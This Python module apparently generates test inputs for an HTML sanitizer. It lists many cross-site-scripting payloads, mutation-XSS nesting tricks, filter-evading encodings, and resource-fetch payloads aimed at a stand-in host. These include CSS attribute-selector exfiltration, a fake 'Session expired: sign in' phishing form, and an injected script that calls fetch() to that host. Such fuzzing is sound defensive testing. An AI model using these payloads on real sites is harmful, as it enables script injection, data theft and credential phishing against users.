"""Hostile HTML bodies: a list of our own, and a seeded grammar that nests, encodes and mutates it into as many as one wants.

`EVIL` stands for the address of a host that writes down whoever calls, `PWN` for a script that would betray itself.
The same seed gives the same bodies on every machine, so that a body that gets through can be named by its number.
"""

import random
from collections.abc import Callable

SEED = 20_261_103

SCRIPTS = (
    "<script>PWN</script>",
    "<script type=module>PWN</script>",
    "<script src=EVIL/s.js></script>",
    "<script>/*<!--*/PWN//--></script>",
    '<img src=x onerror="PWN">',
    '<img/src=x/onerror="PWN">',
    '<img src=x onload=1 onerror="PWN" alt=">',
    '<svg onload="PWN"></svg>',
    "<svg><script>PWN</script></svg>",
    '<svg><a xlink:href="javascript:PWN"><text y=20>click</text></a></svg>',
    '<svg><animate onbegin="PWN" attributeName=x dur=1s>',
    '<svg><set attributeName=onmouseover to="PWN">',
    "<svg><style><img src=x onerror=\"PWN\"></style></svg>",
    '<svg><foreignObject><body onload="PWN"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=PWN xmlns=http://www.w3.org/2000/svg&gt;#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWN&gt;">',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:PWN">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><script>PWN</script></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="PWN">',
    '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "<style><img src='</style><img src=x onerror=\"PWN\">'>",
    "<title><img src='</title><img src=x onerror=\"PWN\">'>",
    '<textarea><img title="</textarea><img src=x onerror=PWN>"></textarea>',
    '<noembed><img title="</noembed><img src=x onerror=PWN>">',
    '<iframe><img title="</iframe><img src=x onerror=PWN>">',
    '<xmp><p title="</xmp><img src=x onerror=\'PWN\'>"></xmp>',
    "<template><script>PWN</script></template>",
    '<template shadowrootmode=open><img src=x onerror="PWN"></template>',
    '<a id=x tabindex=1 onfocus="PWN" autofocus>x</a>',
    '<body onload="PWN">',
    '<body onpageshow="PWN" onresize="PWN">',
    '<details open ontoggle="PWN"><summary>x</summary></details>',
    '<input autofocus onfocus="PWN">',
    '<select autofocus onfocus="PWN"></select>',
    '<textarea autofocus onfocus="PWN"></textarea>',
    '<keygen autofocus onfocus="PWN">',
    '<video><source onerror="PWN"></video>',
    '<video src=x onerror="PWN"></video>',
    '<audio src=x onerror="PWN"></audio>',
    '<marquee onstart="PWN">x</marquee>',
    '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="PWN">x</p>',
    '<p style="transition:color 1s" ontransitionend="PWN">x</p>',
    '<iframe src="javascript:PWN"></iframe>',
    '<iframe srcdoc="<script>PWN</script>"></iframe>',
    '<iframe src="data:text/html,<script>PWN</script>"></iframe>',
    '<object data="javascript:PWN"></object>',
    '<object data="data:text/html,<script>PWN</script>"></object>',
    '<embed src="javascript:PWN">',
    '<embed src="data:image/svg+xml,<svg onload=PWN xmlns=http://www.w3.org/2000/svg/>">',
    '<frameset><frame src="javascript:PWN"></frameset>',
    '<isindex action="javascript:PWN" type=image>',
    '<a id=x href="javascript:PWN" autofocus>click me</a>',
    '<a href="jav&#x09;ascript:PWN">click me</a>',
    '<area href="javascript:PWN">',
    '<form action="javascript:PWN"><input type=submit autofocus></form>',
    '<button formaction="javascript:PWN" form=f autofocus>x</button><form id=f></form>',
    "<meta http-equiv=refresh content='0;url=javascript:PWN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>PWN</script>'>",
    '<link rel=import href="data:text/html,<script>PWN</script>">',
    '<base href="javascript:/PWN/"><a href="#">x</a>',
    '<x contenteditable onfocus="PWN" autofocus>x</x>',
    '<dialog open onclose="PWN"><form method=dialog><button autofocus>x</button></form></dialog>',
    '<div popover id=p onbeforetoggle="PWN">x</div><button popovertarget=p autofocus>x</button>',
    '<!--[if gte IE 4]><script>PWN</script><![endif]-->',
    '<!--> <img src=x onerror="PWN"> -->',
    '<!--- --!><img src=x onerror="PWN"><!-- -->',
    '<![CDATA[<img src=x onerror="PWN">]]>',
    '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">PWN</html:script>',
    '<p title="&lt;/p&gt;&lt;script&gt;PWN&lt;/script&gt;">x</p>',
    "<plaintext><script>PWN</script>",
    '<portal src="javascript:PWN"></portal>',
    '<fencedframe src="EVIL/fenced"></fencedframe>',
)

FETCHES = (
    "<iframe src=EVIL/frame></iframe>",
    "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>",
    "<img src=EVIL/img.png>",
    "<img src='EVIL/quoted.png' srcset='EVIL/set.png 2x'>",
    '<img srcset="EVIL/srcset.png 1x, EVIL/srcset2.png 2x">',
    "<img loading=eager fetchpriority=high src=EVIL/eager.png>",
    "<image src=EVIL/image-is-img.png>",
    "<picture><source srcset=EVIL/picture.png><img src=x></picture>",
    "<video poster=EVIL/poster.png src=EVIL/v.mp4 autoplay></video>",
    "<audio autoplay src=EVIL/a.mp3></audio>",
    "<video><track default src=EVIL/t.vtt></video>",
    "<input type=image src=EVIL/input.png>",
    "<table background=EVIL/table.png><tr><td background=EVIL/td.png>x</table>",
    "<body background=EVIL/body.png>",
    '<link rel=stylesheet href="EVIL/style.css">',
    '<link rel=icon href="EVIL/icon.png">',
    '<link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload.png">',
    '<link rel=modulepreload href="EVIL/module.js"><link rel=prerender href="EVIL/prerender">',
    '<link rel=manifest href="EVIL/manifest.json">',
    '<link rel=dns-prefetch href="EVIL/"><link rel=preconnect href="EVIL/">',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/speculation"]}]}</script>',
    "<style>@import url(EVIL/import.css);</style>",
    "<style>@import 'EVIL/import2.css';</style>",
    "<style>@font-face{font-family:e;src:url(EVIL/font.woff2)}p{font-family:e}</style><p>x</p>",
    "<style>p::after{content:url(EVIL/content.png)}</style><p>x</p>",
    "<style>input[value^=a]{background:url(EVIL/exfil-a)}</style><input value=abc>",
    "<style>p{--x:url(EVIL/variable.png);background:var(--x)}</style><p>x</p>",
    "<style>@media screen{html{background:url(EVIL/media.png)}}</style>",
    "<style>@namespace 'x';*{background:url(EVIL/namespace.png)}</style>",
    "<div style=\"background:url('EVIL/background.png')\">x</div>",
    "<div style='background-image:image-set(\"EVIL/set.png\" 1x)'>x</div>",
    "<div style='background:u\\72l(EVIL/escaped.png)'>x</div>",
    "<div style='background/**/:/**/url(EVIL/comment.png)'>x</div>",
    "<div style='border-image:url(EVIL/border.png) 30 round;mask:url(EVIL/mask.svg#m)'>x</div>",
    "<div style='filter:url(EVIL/filter.svg#f);clip-path:url(EVIL/clip.svg#c)'>x</div>",
    "<div style='shape-outside:url(EVIL/shape.png);float:left'>x</div>",
    "<div style='background:attr(data-x type(<url>))' data-x='EVIL/attr.png'>x</div>",
    "<ul style='list-style:url(EVIL/bullet.png)'><li>x</ul>",
    "<p style='cursor:url(EVIL/cursor.png),auto'>x</p>",
    "<svg><use href='EVIL/use.svg#a'/><image href='EVIL/image.png'/></svg>",
    "<svg><image xlink:href='EVIL/xlink.png'/><feImage href='EVIL/fe.png'/></svg>",
    "<svg><style>@import url(EVIL/svg-import.css)</style></svg>",
    "<svg><linearGradient href='EVIL/gradient.svg#g'/><rect fill='url(EVIL/fill.svg#g)' width=9 height=9 /></svg>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<meta http-equiv=refresh content='0,EVIL/refresh-comma'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'><img src=EVIL/csp.png>",
    "<meta http-equiv=Link content='<EVIL/link.css>;rel=stylesheet'>",
    "<base href=EVIL/><img src=relative.png>",
    "<a ping=EVIL/ping href=#>x</a>",
    "<form action=EVIL/form><input name=q><button autofocus>Session expired: sign in</button></form>",
    "<form id=f action=EVIL/auto></form><svg onload='f.submit()'>",
    "<form target=_top action=EVIL/top><button autofocus>x</button></form>",
    "<iframe src='//EVIL/slashes' name=inner></iframe><a target=inner href=EVIL/inner>x</a>",
    "<object type=image/png data=EVIL/typed.png><img src=EVIL/fallback.png></object>",
    "<applet codebase=EVIL/ code=x></applet>",
    "<bgsound src=EVIL/bg.mid>",
    "<img src=cid:x><img src=EVIL/after-cid.png>",
    "<picture><img srcset='EVIL/avif 1w' sizes='1px'></picture>",
    "<blockquote cite=EVIL/cite>x</blockquote><q cite=EVIL/q>y</q><del cite=EVIL/del>z</del>",
    "<html manifest=EVIL/appcache><head profile=EVIL/profile></head></html>",
    "<img longdesc=EVIL/longdesc usemap=EVIL/map lowsrc=EVIL/lowsrc dynsrc=EVIL/dynsrc>",
    "<img src=http:EVIL/odd.png><img src=//EVIL/odd2.png><img src=\\\\EVIL/odd3.png>",
)

ESCAPES = (
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over everything</div>",
    "<div style='position:absolute;left:-9999px;top:-9999px;width:99999px;height:99999px'>x</div>",
    "<div style='margin:-5000px;padding:9000px'>x</div>",
    "<div style='width:9999999px;height:9999999px;background:red'>x</div>",
    "<div style='width:100vw;height:100vh;transform:scale(50)'>x</div>",
    "<div style='height:1e9px;line-height:1e9px;font-size:9999px'>x</div>",
    "<table width=9999999 height=9999999><tr><td>x</table>",
    "<img width=9999999 height=9999999 alt=x>",
    "<hr size=999999 width=999999>",
    "<pre>" + "x" * 5_000 + "</pre>",
    "<style>html,body{height:9999999px;overflow:visible;position:fixed;top:-100px}</style>",
    "<style>*{position:fixed!important;top:0;left:0;width:100vw;height:100vh}</style><p>x</p>",
    "<style>:root{color-scheme:dark;zoom:40}</style><p>x</p>",
    "<style>@page{size:1px}@media print{*{display:none}}</style>",
    "<dialog open style='position:fixed;inset:0'>Session expired</dialog>",
    "<div popover=manual id=p style='inset:0'>x</div><button popovertarget=p autofocus>x</button>",
    "<marquee width=99999 height=99999 scrollamount=999>x</marquee>",
    "<a href=EVIL/top target=_top autofocus>x</a>",
    "<base target=_top><a href=EVIL/base-top autofocus>x</a>",
    "<div id=thread class='card composer' style='position:sticky;bottom:0'>Send</div>",
    "</div></body></html><div style='position:fixed;inset:0'>outside</div>",
    "</div></div></section></main><section class=card>another card</section>",
    "</iframe></section><h1>outside</h1>",
    "<textarea style='position:fixed;inset:0;resize:both'>",
    "<details open style='position:fixed;inset:0'><summary autofocus>x</summary></details>",
    "<fieldset style='min-width:99999px'><legend style='margin-left:-9999px'>x</legend></fieldset>",
    "<div dir=rtl style='direction:rtl;text-indent:-9999px;letter-spacing:-99px'>x</div>",
    "<div style='columns:999;column-gap:9999px'>" + "x " * 500 + "</div>",
    "<div style='animation:x 1ms infinite;will-change:transform'>x</div><style>@keyframes x{to{transform:translate(9999px)}}</style>",
)

PAYLOADS = (*SCRIPTS, *FETCHES, *ESCAPES)

AROUND = (
    "{}",
    "<div>{}</div>",
    "<p>Hello<p>{}<p>Bye",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}<tr><td>x</td></tr></table>",
    "<blockquote type=cite>{}</blockquote>",
    '<div class="gmail_quote">{}</div>',
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><title>{}</title></svg>",
    "<math><mtext>{}</mtext></math>",
    '<math><annotation-xml encoding="text/html">{}</annotation-xml></math>',
    "<math><mi><mglyph>{}</mglyph></mi></math>",
    "<noscript>{}</noscript>",
    "<template>{}</template>",
    "<select><option>{}</option></select>",
    "<style>{}</style>",
    "<title>{}</title>",
    "<xmp>{}</xmp>",
    "<textarea>{}</textarea>",
    "<!-- {} -->",
    "<!--><p>{}</p>-->",
    "<![CDATA[{}]]>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<img alt=\"{}\" src=x>",
    "<a href='http://example.org/'>{}</a>",
    "<button>{}</button>",
    "<details open><summary>{}</summary></details>",
    "<ruby><rt>{}</rt></ruby>",
    "<b><i><u>{}</b></i></u>",
    "<form>{}</form>",
    "<object>{}</object>",
    "<video>{}</video>",
    "<html><head>{}</head><body>x</body></html>",
    "<div>" * 40 + "{}" + "</div>" * 40,
    "<font color=red><center>{}</font>",
)


def plain(body: str, _chance: random.Random) -> str:
    return body


def shouted(body: str, _chance: random.Random) -> str:
    """Tag names in capitals; scripts and addresses stay as they are."""
    out, inside = [], False
    for letter in body:
        out.append(letter.upper() if inside else letter)
        inside = (inside and letter.isalnum()) or letter == "<" or (inside and letter == "/")
    return "".join(out)


def slashed(body: str, _chance: random.Random) -> str:
    """Slashes instead of the blanks between attributes."""
    return body.replace(" src=", "/src=").replace(" on", "/on").replace(" href=", "\x0chref=")


def broken_lines(body: str, chance: random.Random) -> str:
    blank = chance.choice(["\n", "\t", "\r\n", "\x0c", " \t "])
    return body.replace(" ", blank)


def with_entities(body: str, _chance: random.Random) -> str:
    """Schemes and handlers spelt with character references, as attributes allow."""
    return body.replace("javascript:", "&#106;ava&#x53;cript&colon;").replace("url(", "&#117;rl(")


def with_tabs_in_schemes(body: str, chance: random.Random) -> str:
    return body.replace("javascript:", chance.choice(["java\tscript:", "java&NewLine;script:", " javascript:", "\x01javascript:", "JaVaScRiPt:"]))


def unquoted(body: str, _chance: random.Random) -> str:
    return body.replace('"', "")


def in_backticks(body: str, _chance: random.Random) -> str:
    return body.replace('"', "`")


def cut_short(body: str, chance: random.Random) -> str:
    return body[: chance.randrange(len(body) * 2 // 3, len(body) + 1)]


def with_nulls(body: str, chance: random.Random) -> str:
    place = chance.randrange(len(body))
    return body[:place] + chance.choice(["\x00", "\ufeff", "\u200b", "\x0b", "\x7f", "\u00a0"]) + body[place:]


def doubled(body: str, _chance: random.Random) -> str:
    return body.replace("<", "<<", 1)


def half_decoded(body: str, _chance: random.Random) -> str:
    return body.replace("<", "&lt;", 1).replace("&lt;", "<x>&lt;", 1) + body


def closed_early(body: str, chance: random.Random) -> str:
    return chance.choice(["</div>", "</style>", "</title>", "</svg>", "</math>", "-->", "]]>", '">', "'>", "</body></html>", "</p></table>"]) + body


MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    plain, plain, shouted, slashed, broken_lines, with_entities, with_tabs_in_schemes, unquoted, in_backticks, cut_short, with_nulls,
    doubled, half_decoded, closed_early,
)  # fmt: skip


def hostile_bodies(many: int, evil: str, seed: int = SEED) -> list[str]:
    """`many` bodies, each with its number in whatever it would do. The first ones are the list itself, bare."""
    chance = random.Random(seed)  # noqa: S311 - the same dice for everybody, on purpose
    return [with_number(body_of(number, chance), number, evil) for number in range(many)]


def body_of(number: int, chance: random.Random) -> str:
    if number < len(PAYLOADS):
        return PAYLOADS[number]
    body = chance.choice(PAYLOADS)
    for _ in range(chance.choice([0, 1, 1, 2, 3])):
        body = chance.choice(AROUND).replace("{}", body, 1)
    if chance.random() < 0.3:
        body += chance.choice(PAYLOADS)
    for _ in range(chance.choice([0, 1, 1, 2])):
        body = chance.choice(MUTATIONS)(body, chance)
    return body


def with_number(body: str, number: int, evil: str) -> str:
    """A body that says which one it is to whoever is called, and to the page around it."""
    script = f"top.__pwn={number};parent.__pwn={number};window.__pwn={number};fetch('{evil}/{number}/ran');alert({number})"
    return body.replace("PWN", script).replace("EVIL", f"{evil}/{number}")
